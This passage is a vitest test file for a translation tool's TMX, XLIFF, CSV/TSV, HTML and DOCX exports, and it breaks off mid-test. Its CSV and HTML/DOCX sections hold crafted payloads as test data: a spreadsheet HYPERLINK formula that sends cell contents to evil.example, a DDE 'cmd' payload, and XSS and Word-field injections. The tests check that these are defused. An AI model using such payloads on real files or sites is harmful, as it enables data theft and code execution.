import { describe, expect, it } from 'vitest';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { xliff2js } from 'xliff';
import { Parser } from 'htmlparser2';
import { exportContents, exportProject, exportUnitCount, importFile } from '../core/formats';
import { buildUnits, sideText } from '../core/formats/export-units';
import { ADDITION_NOTE } from '../core/formats/xliff-write';
import { ADDED_LABEL } from '../core/formats/table-rows';
import { parseXml, childElements, firstChild, textContent } from '../core/formats/xml-tree';
import type { Project, TargetLang } from '../core/model/types';
import { readWithToolkit, xliffToPoUnits } from './helpers/translate-toolkit';
import { hasTool } from './helpers/tools';
import { EN, RU, ZH, sampleProject } from './fixtures/formats/sample-project';

const DATE = new Date('2026-01-02T03:04:05Z');
const dir = mkdtempSync(join(tmpdir(), 'duizhao-formats-'));
const BELL = '\u0007';

/** The pairs a bilingual export should hold, computed from the project (not from the writer). */
function expectedPairs(project: Project, t: TargetLang): Array<[string, string]> {
  return buildUnits(project, [t]).map((u) => [sideText(u.source, 'zh'), sideText(u.targets[t], t).replace(BELL, '')]);
}

async function exportText(project: Project, format: Parameters<typeof exportProject>[1], options = {}): Promise<string> {
  const r = await exportProject(project, format, { date: DATE, ...options });
  expect(typeof r.data).toBe('string');
  return r.data as string;
}

function save(name: string, data: string | Uint8Array): string {
  const path = join(dir, name);
  writeFileSync(path, data);
  return path;
}

// translate-toolkit is the independent reader: missing under CI is a failure, elsewhere a loud skip.
const withToolkit = hasTool('translate-toolkit') ? it : it.skip;

describe('unit join (bilingual and trilingual)', () => {
  it('keeps the zh→en 2:1 bead whole and takes both ru sentences into the same unit', () => {
    const units = buildUnits(sampleProject(), ['en', 'ru']);
    const u = units[1]!;
    expect(u.source.sentences.map((s) => s.id)).toEqual(['zh-s1', 'zh-s2']);
    expect(u.targets.en!.sentences.map((s) => s.id)).toEqual(['en-s1']);
    expect(u.targets.ru!.sentences.map((s) => s.id)).toEqual(['ru-s1', 'ru-s2']);
    // The ru status is its least finished sentence; confidence the lowest bead.
    expect(u.targets.ru!.status).toBe('draft');
    expect(u.targets.ru!.score).toBeCloseTo(0.92);
  });

  it('keeps the en addition as its own unit in en order, and the ru omission as an empty side', () => {
    const units = buildUnits(sampleProject(), ['en', 'ru']);
    expect(units).toHaveLength(5);
    expect(units[2]!.targets.ru!.sentences).toEqual([]);
    expect(units[3]!.source.sentences).toEqual([]);
    expect(units[3]!.targets.en!.sentences[0]!.text).toBe(EN.note);
    expect(units[3]!.targets.ru).toBeUndefined();
  });

  it('covers every aligned sentence exactly once', () => {
    const p = sampleProject();
    const units = buildUnits(p, ['en', 'ru']);
    const ids = units.flatMap((u) => [...u.source.sentences, ...Object.values(u.targets).flatMap((t) => t.sentences)].map((s) => s.id));
    expect(new Set(ids).size).toBe(ids.length);
    const all = [p.source, p.targets.en!, p.targets.ru!].flatMap((d) => d.paragraphs.flatMap((x) => x.sentences.map((s) => s.id)));
    expect(new Set(ids)).toEqual(new Set(all));
  });
});

describe('TMX 1.4b', () => {
  withToolkit('bilingual zh→en: translate-toolkit reads back the same pairs; the added sentence is no <tu>', async () => {
    const p = sampleProject();
    const path = save('en.tmx', await exportText(p, 'tmx', { target: 'en' }));
    const read = readWithToolkit('tmx', path);
    // The added en sentence (a 0:1 bead, no Chinese source) is no unit: only the pairs with a source.
    const withSource = expectedPairs(p, 'en').filter(([zh]) => zh !== '');
    expect(withSource).toHaveLength(4);
    expect(read.units.map((u) => [u.langs['zh-CN'] ?? '', u.langs['en-GB'] ?? ''])).toEqual(withSource);
    expect(read.units.map((u) => Object.keys(u.langs).join())).toEqual(['zh-CN,en-GB', 'zh-CN,en-GB', 'zh-CN,en-GB', 'zh-CN,en-GB']);
  });

  withToolkit("translate-toolkit never reads a translation as a source: every unit's source is Chinese (tmx en, ru, tmx3)", async () => {
    // translate-toolkit takes a <tu>'s first <tuv> for the source whatever the header's srclang: a
    // <tu> holding the added en sentence alone made that sentence a source segment in the importing tool.
    const p = sampleProject();
    for (const [format, target] of [['tmx', 'en'], ['tmx', 'ru'], ['tmx3', undefined]] as const) {
      const read = readWithToolkit('tmx', save(`src-${format}-${target}.tmx`, await exportText(p, format, target ? { target } : {})));
      const zh = new Set(buildUnits(p, target ? [target] : ['en', 'ru']).map((u) => sideText(u.source, 'zh')));
      expect(read.units.map((u) => u.source).filter((source) => !zh.has(source) || source === ''), `${format} ${target}`).toEqual([]);
    }
  });

  it('the added sentence travels in an x-duizhao-added prop of the <tu> before it, and the header says so', async () => {
    const root = parseXml(await exportText(sampleProject(), 'tmx', { target: 'en' }), 't.tmx');
    const header = firstChild(root, 'header')!;
    expect(textContent(firstChild(header, 'note')!)).toBe('1 sentence added in the translation (no Chinese source) is not a translation unit in this file; it is kept in an x-duizhao-added prop for Duizhao.');
    const tus = childElements(firstChild(root, 'body')!, 'tu');
    const added = tus.map((tu) => childElements(tu, 'prop').filter((el) => el.attrs.type === 'x-duizhao-added').map((el) => JSON.parse(textContent(el))));
    // After the parade (the third unit), as in the translation; the bell is not carried either.
    expect(added.map((list) => list.length)).toEqual([0, 0, 1, 0]);
    expect(added[2]![0]).toEqual({ zh: { text: '' }, en: { text: EN.note.replace(BELL, ''), layout: expect.stringMatching(/^en-p2\/en-s3\//), status: 'edited', confidence: '0.400', origin: 'auto' } });
  });

  it('a hand-broken x-duizhao-added prop is left out with a warning when the TMX is reopened', async () => {
    const xml = (await exportText(sampleProject(), 'tmx', { target: 'en' })).replace(/(<prop type="x-duizhao-added">)\{/, '$1[');
    const back = await importFile('broken.tmx', new TextEncoder().encode(xml));
    if (back.kind !== 'project') throw new Error('expected a project');
    expect(buildUnits(back.project, ['en']).map((u) => sideText(u.source, 'zh'))).not.toContain('');
    expect((back.warnings ?? []).join('\n')).toMatch(/^broken\.tmx: 1 x-duizhao-added prop could not be read and was left out — first at line \d+$/m);
  });

  it('says how many added sentences are not units, and which units have an empty side', async () => {
    const en = await exportProject(sampleProject(), 'tmx', { target: 'en', date: DATE });
    expect(en.warnings).toContain(
      'TMX: 1 sentence added in the translation (no Chinese source) is not written as a translation unit, which TM tools would read with the translation as the source; Duizhao keeps it in an x-duizhao-added prop and reopens it, and the XLIFF, CSV, DOCX and HTML exports show it',
    );
    expect(en.warnings.join('\n')).not.toMatch(/<tuv>/);
    const tri = await exportProject(sampleProject(), 'tmx3', { date: DATE });
    expect(tri.warnings.join('\n')).toMatch(/^TMX: 1 sentence added in the translation/m);
    expect(tri.warnings.join('\n')).toMatch(/no <tuv> for it.*: 1 with no ru translation$/m);
    // skipEmpty leaves out the addition; the unit with en and no ru stays in a trilingual TM.
    const skipped = await exportProject(sampleProject(), 'tmx3', { date: DATE, skipEmpty: true });
    expect(skipped.warnings.join('\n')).not.toMatch(/added in the translation/);
    expect(skipped.warnings.join('\n')).toMatch(/<tuv> for it.*: 1 with no ru translation$/m);
    expect(exportContents(sampleProject(), 'tmx', { target: 'en' }).addedOutside).toBe(1);
    expect(exportContents(sampleProject(), 'tmx', { target: 'en', skipEmpty: true }).addedOutside).toBe(0);
    expect(exportContents(sampleProject(), 'csv').addedOutside).toBe(0);
  });

  withToolkit('bilingual zh→ru with the omission as a unit without a ru <tuv> (untranslated, not translated as empty)', async () => {
    const p = sampleProject();
    const path = save('ru.tmx', await exportText(p, 'tmx', { target: 'ru' }));
    const read = readWithToolkit('tmx', path);
    expect(read.units.map((u) => [u.source, u.target])).toEqual(expectedPairs(p, 'ru'));
    const parade = read.units.find((u) => u.source === ZH.parade)!;
    expect(parade.target).toBe('');
    expect(parade.langs).toEqual({ 'zh-CN': ZH.parade });
  });

  withToolkit('trilingual: one <tu> holds zh, en and ru, read back language by language', async () => {
    const path = save('tri.tmx', await exportText(sampleProject(), 'tmx3'));
    const units = readWithToolkit('tmx', path).units;
    expect(units.map((u) => u.langs)).toEqual([
      { 'zh-CN': ZH.title, 'en-GB': EN.title, 'ru-RU': RU.title },
      { 'zh-CN': ZH.visit + ZH.talks, 'en-GB': EN.visitTalks, 'ru-RU': `${RU.visit} ${RU.talks}` },
      { 'zh-CN': ZH.parade, 'en-GB': EN.parade },
      { 'zh-CN': ZH.declare, 'en-GB': EN.declare, 'ru-RU': RU.declare },
    ]);
  });

  it('writes the header and per-unit props a TM manager expects', async () => {
    const root = parseXml(await exportText(sampleProject(), 'tmx', { target: 'en' }), 't.tmx');
    const header = firstChild(root, 'header')!;
    expect(root.attrs.version).toBe('1.4');
    for (const a of ['creationtool', 'creationtoolversion', 'segtype', 'srclang', 'o-tmf', 'adminlang', 'datatype']) expect(header.attrs[a], a).toBeTruthy();
    expect(header.attrs.srclang).toBe('zh-CN');
    expect(header.attrs.creationdate).toBe('20260102T030405Z');
    const tus = childElements(firstChild(root, 'body')!, 'tu');
    const props = (i: number): Record<string, string> => Object.fromEntries(childElements(tus[i]!, 'prop').map((p) => [p.attrs.type!, textContent(p)]));
    expect(props(0)).toMatchObject({ 'x-confidence-en': '0.970', 'x-status-en': 'confirmed', 'x-origin-en': 'manual' });
    expect(props(2)).toMatchObject({ 'x-status-en': 'mt' });
    expect(tus[1]!.attrs.segtype).toBe('block');
  });

  it('escapes markup and drops the control character, with a warning', async () => {
    const r = await exportProject(sampleProject(), 'tmx', { target: 'en', date: DATE });
    const xml = r.data as string;
    // The sentence with markup is the added one: JSON in its x-duizhao-added prop, escaped as text.
    expect(xml).toContain('&lt;b&gt;tags&lt;/b&gt; &amp; \\"quotes\\"');
    expect(xml).toContain('Joint statement 2025-05-08 &amp; &lt;test&gt;');
    expect(xml).not.toContain(BELL);
    expect(r.warnings.join()).toMatch(/1 control character/);
  });
});

describe('line breaks inside a segment', () => {
  const ZH_LIST = '双方声明如下:\n一、深化合作;\n二、维护稳定。';
  const EN_LIST = 'The Parties state as follows:\n1. deepen cooperation;\n2. maintain\tstability.';
  const listProject = (): Project => {
    const p = sampleProject();
    p.source.paragraphs[2]!.sentences[0]!.text = ZH_LIST;
    p.targets.en!.paragraphs[2]!.sentences[1]!.text = EN_LIST;
    return p;
  };

  withToolkit('TMX and XLIFF 1.2: translate-toolkit reads the newline inside <seg>, <source> and <target>', async () => {
    const tmx = readWithToolkit('tmx', save('nl.tmx', await exportText(listProject(), 'tmx', { target: 'en' })));
    expect(tmx.units.at(-1)!.langs).toEqual({ 'zh-CN': ZH_LIST, 'en-GB': EN_LIST });
    const xlf = readWithToolkit('xliff', save('nl.xlf', await exportText(listProject(), 'xliff12', { target: 'en' })));
    expect([xlf.units.at(-1)!.source, xlf.units.at(-1)!.target]).toEqual([ZH_LIST, EN_LIST]);
  });

  it('XLIFF 2.1: the npm xliff reader gets the newline back', async () => {
    const js = await xliff2js(await exportText(listProject(), 'xliff', { target: 'en' }));
    const last = Object.values(js.resources.f1!).at(-1)!;
    expect([last.source, last.target]).toEqual([ZH_LIST, EN_LIST]);
  });

  it('DOCX: a line break is a <w:br/> and a tab a <w:tab/> in the cell’s run, read back in order', async () => {
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync((await exportProject(listProject(), 'docx', { date: DATE })).data as Uint8Array);
    const root = parseXml(await zip.file('word/document.xml')!.async('string'), 'document.xml');
    const all = (el: ReturnType<typeof parseXml>, local: string): ReturnType<typeof parseXml>[] => el.children.flatMap((c) => (typeof c === 'string' ? [] : c.local === local ? [c, ...all(c, local)] : all(c, local)));
    // A cell's text as Word reads it: <w:t> text, <w:br/> a line break, <w:tab/> a tab.
    const cellText = (tc: ReturnType<typeof parseXml>): string =>
      all(tc, 'r')
        .flatMap((r) => childElements(r))
        .map((el) => (el.local === 't' ? textContent(el) : el.local === 'br' ? '\n' : el.local === 'tab' ? '\t' : ''))
        .join('');
    const rows = childElements(all(root, 'tbl')[0]!, 'tr').map((tr) => childElements(tr, 'tc').map(cellText));
    expect(rows.at(-1)!.slice(1, 3)).toEqual([ZH_LIST, EN_LIST]);
    expect(all(root, 't').map(textContent).join('|')).not.toMatch(/[\n\t]/);
  });

  it('HTML: a line break is a <br> in the cell, the text around it escaped', async () => {
    const p = listProject();
    p.targets.en!.paragraphs[2]!.sentences[1]!.text = 'Item <1> & more\nItem 2';
    const html = await exportText(p, 'html');
    expect(html).toContain('<td lang="zh-Hans">双方声明如下:<br>一、深化合作;<br>二、维护稳定。</td>');
    expect(html).toContain('>Item &lt;1&gt; &amp; more<br>Item 2</td>');
  });
});

describe('export options', () => {
  const pairsOf = async (options: object): Promise<string[]> =>
    childElements(firstChild(parseXml(await exportText(sampleProject(), 'tmx', { target: 'en', ...options }), 'x.tmx'), 'body')!, 'tu').map(
      (tu) => textContent(childElements(tu, 'tuv')[0]!),
    );

  it('onlyConfirmed keeps confirmed units only', async () => {
    expect(await pairsOf({ onlyConfirmed: true })).toEqual([ZH.title, ZH.visit + ZH.talks]);
  });

  it('skipEmpty leaves out the addition (no source) and the omission (no target)', async () => {
    expect(await pairsOf({ skipEmpty: true })).toEqual([ZH.title, ZH.visit + ZH.talks, ZH.parade, ZH.declare]);
    const ru = childElements(firstChild(parseXml(await exportText(sampleProject(), 'tmx', { target: 'ru', skipEmpty: true }), 'r.tmx'), 'body')!, 'tu');
    // zh→ru is 1:1 five times; the omission of zh-s3 goes.
    expect(ru.map((tu) => textContent(childElements(tu, 'tuv')[0]!))).toEqual([ZH.title, ZH.visit, ZH.talks, ZH.declare]);
  });

  it('the unit count (the Export dialog\'s) is the number of <tu>, also for an added sentence left with no text', async () => {
    // A <tu> needs a <tuv>: an addition whose sentence was emptied keeps an empty zh <tuv>.
    const p = sampleProject();
    p.targets.en!.paragraphs[2]!.sentences[0]!.text = '';
    for (const format of ['tmx', 'tmx3'] as const) {
      const tus = childElements(firstChild(parseXml(await exportText(p, format, { target: 'en' }), 'x.tmx'), 'body')!, 'tu');
      expect(tus.every((tu) => childElements(tu, 'tuv').length > 0), format).toBe(true);
      expect(exportUnitCount(p, format, { target: 'en' }), format).toBe(tus.length);
    }
    expect(exportUnitCount(p, 'csv')).toBe(5);
  });

  it('mergeNm=false leaves out n:m beads; the default merges them into one unit', async () => {
    expect(await pairsOf({ mergeNm: false })).not.toContain(ZH.visit + ZH.talks);
    expect(await pairsOf({})).toContain(ZH.visit + ZH.talks);
  });

  it('refuses tmx3 when one alignment is missing, and a target that is not aligned', async () => {
    const p = sampleProject();
    delete p.alignments.ru;
    await expect(exportProject(p, 'tmx3')).rejects.toThrow('TMX trilingual needs both the English and the Russian alignment; the project has only English');
    await expect(exportProject(p, 'xliff', { target: 'ru' })).rejects.toThrow('the project has no aligned Russian translation (only English)');
    // A table's column too: not left out without a word.
    await expect(exportProject(p, 'csv', { targets: ['en', 'ru'] })).rejects.toThrow('the project has no aligned Russian translation (only English)');
  });
});

describe('XLIFF', () => {
  withToolkit('1.2: translate-toolkit reads back pairs, approval and QA notes', async () => {
    const p = sampleProject();
    const findings = [{ sentenceIds: ['en-s2'], severity: 'warning' as const, check: 'numbers', message: '80 & <9> checked', lang: 'en' as const }];
    const path = save('en.xlf', await exportText(p, 'xliff12', { target: 'en', findings }));
    const read = readWithToolkit('xliff', path);
    expect(read.units.map((u) => [u.source, u.target])).toEqual(expectedPairs(p, 'en'));
    expect(read.units.map((u) => u.approved)).toEqual([true, true, false, false, false]);
    expect(read.units[2]!.notes).toContain('warning [numbers] en: 80 & <9> checked');
    // The added sentence keeps its unit, with an empty <source>, and a note that says why.
    expect(read.units.map((u) => u.notes?.includes(ADDITION_NOTE))).toEqual([false, false, false, true, false]);
  });

  withToolkit('1.2: xliff2po keeps the QA notes and the addition note as PO translator comments', async () => {
    // xliff2po keeps a <note> only when its `from` names a role it knows; it dropped "duizhao-qa" without a word.
    const p = sampleProject();
    const findings = [
      { sentenceIds: ['en-s2'], severity: 'warning' as const, check: 'numbers', message: '80 & <9> checked', lang: 'en' as const },
      { sentenceIds: ['zh-s1'], severity: 'error' as const, check: 'completeness', message: 'source sentence has no translation' },
    ];
    const po = xliffToPoUnits(save('po.xlf', await exportText(p, 'xliff12', { target: 'en', findings })));
    expect(po.map((u) => [u.source, u.target])).toEqual(expectedPairs(p, 'en'));
    expect(po.map((u) => u.translatorComments)).toEqual([
      [],
      ['error [completeness] source sentence has no translation'],
      ['warning [numbers] en: 80 & <9> checked'],
      [ADDITION_NOTE],
      [],
    ]);
    expect(po.flatMap((u) => u.extractedComments)).toEqual([]);
  });

  it('2.1: the unit of an added sentence has an empty <source> and a note saying it was added; notes say what they apply to', async () => {
    const findings = [
      { sentenceIds: ['en-s2'], severity: 'warning' as const, check: 'numbers', message: '80 checked', lang: 'en' as const },
      { sentenceIds: ['zh-s1'], severity: 'error' as const, check: 'completeness', message: 'not translated' },
    ];
    const root = parseXml(await exportText(sampleProject(), 'xliff', { target: 'en', findings }), 'x.xlf');
    const units = childElements(firstChild(root, 'file')!, 'unit');
    const notes = units.map((u) => childElements(firstChild(u, 'notes') ?? u, 'note').map((n) => [n.attrs.appliesTo ?? '', textContent(n)]));
    expect(notes).toEqual([[], [['', 'error [completeness] not translated']], [['target', 'warning [numbers] en: 80 checked']], [['source', ADDITION_NOTE]], []]);
    const segment = firstChild(units[3]!, 'segment')!;
    expect(textContent(firstChild(segment, 'source')!)).toBe('');
    expect(textContent(firstChild(segment, 'target')!)).toBe(EN.note.replace(BELL, ''));
  });

  it('1.2: target states follow the segment status', async () => {
    const root = parseXml(await exportText(sampleProject(), 'xliff12', { target: 'en' }), 'x.xlf');
    const states = childElements(firstChild(firstChild(root, 'file')!, 'body')!, 'trans-unit').map((tu) => firstChild(tu, 'target')!.attrs.state);
    expect(states).toEqual(['final', 'final', 'needs-review-translation', 'translated', 'translated']);
  });

  it('2.1: the npm xliff reader sees the same units, languages and pairs', async () => {
    const p = sampleProject();
    const xml = await exportText(p, 'xliff', { target: 'ru' });
    const js = await xliff2js(xml);
    expect(js.xliffVersion).toBe('2.1');
    expect([js.sourceLanguage, js.targetLanguage]).toEqual(['zh-CN', 'ru-RU']);
    const units = Object.values(js.resources.f1!);
    expect(units.map((u) => [u.source, u.target ?? ''])).toEqual(expectedPairs(p, 'ru'));
  });

  it('2.1: structure follows the core schema (namespace, unique ids, states, one segment per unit)', async () => {
    const root = parseXml(await exportText(sampleProject(), 'xliff', { target: 'en' }), 'x.xlf');
    expect(root.attrs.xmlns).toBe('urn:oasis:names:tc:xliff:document:2.0');
    expect(root.attrs.version).toBe('2.1');
    const units = childElements(firstChild(root, 'file')!, 'unit');
    expect(new Set(units.map((u) => u.attrs.id)).size).toBe(units.length);
    const segments = units.map((u) => childElements(u, 'segment'));
    expect(segments.every((s) => s.length === 1)).toBe(true);
    const states = segments.map((s) => s[0]!.attrs.state);
    expect(states).toEqual(['final', 'final', 'translated', 'reviewed', 'reviewed']);
    expect(segments.map((s) => s[0]!.attrs.subState)).toEqual(['duizhao:confirmed', 'duizhao:confirmed', 'duizhao:mt', 'duizhao:edited', 'duizhao:edited']);
    // Every segment has a source, and source comes before target.
    for (const s of segments) expect(s[0]!.children.filter((c) => typeof c !== 'string').map((c) => (c as { local: string }).local)[0]).toBe('source');
  });
});

describe('CSV / TSV', () => {
  const parseWithPython = (path: string, delimiter: string): string[][] => {
    const r = spawnSync('/usr/bin/python3', ['-c', `import csv,json,sys\nwith open(sys.argv[1], newline='', encoding='utf-8-sig') as f: print(json.dumps(list(csv.reader(f, delimiter=sys.argv[2])), ensure_ascii=False))`, path, delimiter], { encoding: 'utf8' });
    expect(r.status, r.stderr).toBe(0);
    return JSON.parse(r.stdout);
  };

  it('CSV with BOM: Python’s csv module reads back every cell, quotes and commas intact', async () => {
    const text = await exportText(sampleProject(), 'csv', { bom: true });
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain('\r\n');
    const rows = parseWithPython(save('t.csv', text), ',');
    expect(rows[0]).toEqual(['#', 'zh', 'en', 'ru', 'en status', 'en confidence', 'ru status', 'ru confidence', 'QA']);
    expect(rows[2]!.slice(0, 4)).toEqual(['2', ZH.visit + ZH.talks, EN.visitTalks, `${RU.visit} ${RU.talks}`]);
    expect(rows[5]![2]).toBe(EN.declare); // contains "double quotes"
    expect(rows[2]![5]).toBe('0.810');
  });

  it('TSV with the same quoting reads back with a tab delimiter', async () => {
    const p = sampleProject();
    p.targets.en!.paragraphs[1]!.sentences[1]!.text = 'tab\there, "quote", and a\nnewline';
    const rows = parseWithPython(save('t.tsv', await exportText(p, 'tsv')), '\t');
    expect(rows[3]![2]).toBe('tab\there, "quote", and a\nnewline');
    expect(rows).toHaveLength(6);
  });

  // Cells a spreadsheet would run as formulas: real sentences that start with "-" or "+", and crafted
  // attacks (OWASP CSV injection). Excel-safe files get an apostrophe in front of exactly these.
  const DIALOGUE_RU = '- Мы готовы продолжить диалог, — сказал министр.';
  const GROWTH_EN = '+5% growth in trade between the two countries was recorded in 2024.';
  const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")';
  const DDE = "@SUM(1+1)*cmd|' /C calc'!A0";
  const TAB_LED = '\t=1+1';
  const CR_LED = '\r=2+2';
  const craftedProject = (): Project => {
    const p = sampleProject();
    const set = (lang: 'en' | 'ru', id: string, text: string) => {
      for (const para of p.targets[lang]!.paragraphs) for (const s of para.sentences) if (s.id === id) s.text = text;
    };
    set('ru', 'ru-s1', DIALOGUE_RU);
    set('en', 'en-s2', GROWTH_EN);
    set('en', 'en-s3', HYPERLINK);
    set('en', 'en-s4', DDE);
    set('en', 'en-s0', TAB_LED);
    set('ru', 'ru-s3', CR_LED);
    return p;
  };
  const triggers = /^[=+\-@\t\r]/;

  it('plain CSV (no BOM) keeps every cell as written, formula-like ones included: a TM exchange file is not altered', async () => {
    const rows = parseWithPython(save('plain.csv', await exportText(craftedProject(), 'csv')), ',');
    expect(rows.slice(1).map((r) => r.slice(1, 4))).toEqual([
      [ZH.title, TAB_LED, RU.title],
      [ZH.visit + ZH.talks, EN.visitTalks, `${DIALOGUE_RU} ${RU.talks}`],
      [ZH.parade, GROWTH_EN, ''],
      ['', HYPERLINK, ''],
      [ZH.declare, DDE, CR_LED],
    ]);
  });

  it('CSV with BOM is Excel-safe by default: an apostrophe before exactly the cells that start with = + - @ TAB CR', async () => {
    const p = craftedProject();
    const plain = parseWithPython(save('p.csv', await exportText(p, 'csv')), ',');
    const safe = parseWithPython(save('s.csv', await exportText(p, 'csv', { bom: true })), ',');
    expect(safe[2]![3]).toBe(`'${DIALOGUE_RU} ${RU.talks}`);
    expect(safe[3]![2]).toBe(`'${GROWTH_EN}`);
    expect(safe[4]![2]).toBe(`'${HYPERLINK}`);
    expect(safe[5]![2]).toBe(`'${DDE}`);
    expect(safe[1]![2]).toBe(`'${TAB_LED}`);
    expect(safe[5]![3]).toBe(`'${CR_LED}`);
    // The sample's own sentences (dashes inside, quotes, numbers) and the other columns are untouched.
    expect(safe[2]![1]).toBe(ZH.visit + ZH.talks);
    expect(safe[1]![3]).toBe(RU.title);
    expect(safe[0]).toEqual(plain[0]);
    expect(safe.map((r) => r.slice(4))).toEqual(plain.map((r) => r.slice(4)));
    // Cell by cell: the same text, prefixed where (and only where) a spreadsheet would see a formula.
    expect(safe).toEqual(plain.map((r) => r.map((c) => (triggers.test(c) ? `'${c}` : c))));
    expect(safe.flat().filter((c) => triggers.test(c))).toEqual([]);
  });

  it('excelSafe overrides the default both ways; TSV is defused the same way', async () => {
    const p = craftedProject();
    const unsafe = parseWithPython(save('u.csv', await exportText(p, 'csv', { bom: true, excelSafe: false })), ',');
    expect(unsafe[4]![2]).toBe(HYPERLINK);
    const tsv = parseWithPython(save('s.tsv', await exportText(p, 'tsv', { excelSafe: true })), '\t');
    expect(tsv[4]![2]).toBe(`'${HYPERLINK}`);
    expect(tsv[2]![3]).toBe(`'${DIALOGUE_RU} ${RU.talks}`);
    expect(tsv.flat().filter((c) => triggers.test(c))).toEqual([]);
  });
});

describe('HTML', () => {
  it('is one self-contained, escaped page: the text read back equals the project', async () => {
    const html = await exportText(sampleProject(), 'html', { findings: [{ sentenceIds: ['zh-s4'], severity: 'error', message: '<script>alert(1)</script>' }] });
    expect(html).not.toMatch(/<script|<link|src=/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    const cells: string[][] = [];
    let row: string[] | undefined;
    let cell: string | undefined;
    const parser = new Parser({
      onopentag: (n) => {
        if (n === 'tr') row = [];
        if (n === 'td' || n === 'th') cell = '';
      },
      ontext: (t) => {
        if (cell !== undefined) cell += t;
      },
      onclosetag: (n) => {
        if ((n === 'td' || n === 'th') && row && cell !== undefined) row.push(cell);
        if (n === 'td' || n === 'th') cell = undefined;
        if (n === 'tr' && row) cells.push(row);
      },
    });
    parser.write(html);
    parser.end();
    expect(cells[0]!.slice(0, 4)).toEqual(['#', '中文', 'English', 'Русский']);
    expect(cells[4]!.slice(1, 3)).toEqual(['', EN.note.replace(BELL, '')]);
    // The added sentence's empty source cell is marked, and labelled by CSS (the text stays empty).
    expect(html).toContain(`td.added::before{content:"${ADDED_LABEL}"`);
    expect(/<td lang="zh-Hans"( class="[^"]*")?><\/td>/.exec(html)![1]).toBe(' class="none added"');
    expect(html.match(/class="none added"/g)).toHaveLength(1);
    // The ru omission is marked; the en addition's ru cell is not (no translation belongs there).
    expect(html.match(/<td lang="[^"]+" class="t none">/g)).toEqual(['<td lang="ru" class="t none">']);
    expect(cells[5]!.at(-1)).toBe('error <script>alert(1)</script>');
  });

  it('sets English and Russian text in a Latin font wherever one is installed, never first in a CJK font', async () => {
    // A CJK font's Latin has full-width quotes (“ ”) and its own letter shapes; a machine with a CJK
    // font but neither Noto Serif nor Times New Roman (Debian with fonts-noto-cjk) used it for every
    // English and Russian cell. The generic serif must come before the first CJK font.
    const html = await exportText(sampleProject(), 'html');
    const stack = /body\{font-family:([^;}]+)/.exec(html)![1]!.split(',').map((f) => f.trim().replace(/"/g, ''));
    const firstCjk = stack.findIndex((f) => /CJK|Han|Song|SimSun|Hei|Ming|Kai/i.test(f));
    expect(firstCjk).toBeGreaterThan(-1);
    expect(stack.indexOf('serif')).toBeGreaterThan(-1);
    expect(stack.indexOf('serif')).toBeLessThan(firstCjk);
  });
});

const HYPERLINK_TEXT = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
const DIALOGUE_TEXT = '- Мы готовы продолжить диалог, — сказал министр.';

describe('HTML and DOCX carry formula-like and markup-like text as text', () => {
  it('HTML: markup in a segment, a finding and the project name never becomes an element or an attribute', async () => {
    const p = sampleProject();
    p.name = '"><script>alert(1)</script>';
    p.source.paragraphs[1]!.sentences[0]!.text = '</td></tr></table><iframe src="//evil.example"></iframe>';
    p.targets.en!.paragraphs[2]!.sentences[0]!.text = `<img src=x onerror='alert(1)'> & =HYPERLINK("http://evil.example")`;
    const html = await exportText(p, 'html', { findings: [{ sentenceIds: ['en-s3'], severity: 'warning', message: '<a href="javascript:alert(1)">x</a>' }] });
    const tags = new Set<string>();
    const attrs = new Set<string>();
    const cells: string[] = [];
    let cell: string | undefined;
    const parser = new Parser({
      onopentag: (name, a) => {
        tags.add(name);
        for (const k of Object.keys(a)) attrs.add(k);
        if (name === 'td') cell = '';
      },
      ontext: (t) => {
        if (cell !== undefined) cell += t;
      },
      onclosetag: (name) => {
        if (name === 'td' && cell !== undefined) cells.push(cell);
        if (name === 'td') cell = undefined;
      },
    }, { decodeEntities: true });
    parser.write(html);
    parser.end();
    expect([...tags].sort()).toEqual(['body', 'h1', 'head', 'html', 'meta', 'span', 'style', 'table', 'tbody', 'td', 'th', 'thead', 'title', 'tr']);
    expect([...attrs].sort()).toEqual(['charset', 'class', 'lang']);
    expect(cells).toContain(p.source.paragraphs[1]!.sentences[0]!.text + ZH.talks);
    expect(cells).toContain(p.targets.en!.paragraphs[2]!.sentences[0]!.text);
    expect(cells).toContain('warning <a href="javascript:alert(1)">x</a>');
  });

  it('DOCX: formula- and field-like text stays a run of text in its cell; every relationship the body names exists', async () => {
    const p = sampleProject();
    const field = '<w:fldSimple w:instr="HYPERLINK http://evil.example"/> & \'quotes\' "too"';
    p.targets.en!.paragraphs[1]!.sentences[1]!.text = HYPERLINK_TEXT;
    p.targets.ru!.paragraphs[1]!.sentences[0]!.text = DIALOGUE_TEXT;
    p.source.paragraphs[1]!.sentences[2]!.text = field;
    const r = await exportProject(p, 'docx', { findings: [{ sentenceIds: ['zh-s3'], severity: 'error', message: '=cmd|x <b>' }] });
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync(r.data as Uint8Array);
    const doc = await zip.file('word/document.xml')!.async('string');
    const root = parseXml(doc, 'document.xml');
    const all = (el: ReturnType<typeof parseXml>, local: string): ReturnType<typeof parseXml>[] => el.children.flatMap((c) => (typeof c === 'string' ? [] : c.local === local ? [c, ...all(c, local)] : all(c, local)));
    const rows = childElements(all(root, 'tbl')[0]!, 'tr').map((tr) => childElements(tr, 'tc').map((tc) => all(tc, 't').map(textContent).join('')));
    expect(rows[3]!.slice(1, 3)).toEqual([field, HYPERLINK_TEXT]);
    expect(rows[2]![3]).toBe(`${DIALOGUE_TEXT} ${RU.talks}`);
    expect(all(root, 'fldSimple')).toEqual([]);
    expect(all(root, 'instrText')).toEqual([]);
    const comments = await zip.file('word/comments.xml')!.async('string');
    expect(comments).toContain('error =cmd|x &lt;b&gt;');
    // The table is written apart from the rest of the body: the ids it and the body use must resolve.
    const rels = await zip.file('word/_rels/document.xml.rels')!.async('string');
    const ids = [...doc.matchAll(/ r:id="([^"]+)"/g)].map((m) => m[1]);
    expect(ids.length).toBeGreaterThan(0);
    for (const id of ids) expect(rels).toContain(`Id="${id}"`);
    const footerRel = /Id="([^"]+)" Type="[^"]+\/footer" Target="([^"]+)"/.exec(rels)!;
